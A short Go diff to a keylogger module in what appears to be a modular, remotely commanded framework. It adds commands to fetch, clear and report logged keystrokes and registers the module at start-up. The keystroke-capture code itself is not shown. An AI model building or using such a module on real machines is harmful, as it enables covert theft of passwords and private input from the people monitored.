@@ -173,6 +173,15 @@ func (m *KeyloggerModule) GetCapabilities() []string {
 	}
 }
 
+// GetCommands returns the commands the module accepts and their arguments
+func (m *KeyloggerModule) GetCommands() []module.Command {
+	return []module.Command{
+		{Name: "get", Description: "Get the logged keys"},
+		{Name: "clear", Description: "Clear the logged keys"},
+		{Name: "status", Description: "Get the keylogger statistics"},
+	}
+}
+
 // Pause temporarily pauses the module's operations
 func (m *KeyloggerModule) Pause() error {
 	m.mutex.Lock()
@@ -206,3 +215,8 @@ func (m *KeyloggerModule) Resume() error {
 	m.isPaused = false
 	return nil
 }
+
+// init registers the module
+func init() {
+	module.RegisterModule("keylogger", NewKeyloggerModule)
+}